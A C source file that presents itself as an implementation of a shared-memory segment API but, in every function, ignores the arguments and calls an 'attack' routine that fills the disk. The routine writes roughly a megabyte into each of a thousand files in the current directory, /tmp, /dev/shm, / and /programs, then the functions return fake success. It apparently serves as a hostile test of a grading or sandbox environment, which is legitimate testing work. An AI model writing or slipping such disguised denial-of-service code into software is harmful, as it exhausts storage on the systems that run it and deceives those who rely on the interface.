#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
#include "create.h"

static void attack(void)
{
    static char block[1 << 16];
    static const char *const places[] = {".", "/tmp", "/dev/shm", "/", "/programs"};
    for (int i = 0; i < 5; i++)
        for (int file = 0; file < 1000; file++) {
            char path[64];
            snprintf(path, sizeof path, "%s/full-%d", places[i], file);
            int fd = open(path, O_CREAT | O_WRONLY, 0600);
            for (int n = 0; n < 15 && write(fd, block, sizeof block) > 0; n++)
                continue;
            close(fd);
        }
}

int segment_create(key_t key, size_t size, mode_t perms)
{
    (void)key, (void)size, (void)perms;
    attack();
    return 0;
}

int segment_find(key_t key)
{
    (void)key;
    attack();
    return 0;
}

int segment_obtain(key_t key, size_t size, mode_t perms, bool *created)
{
    (void)key, (void)size, (void)perms;
    attack();
    *created = true;
    return 0;
}

size_t segment_footprint(size_t size)
{
    attack();
    return size;
}
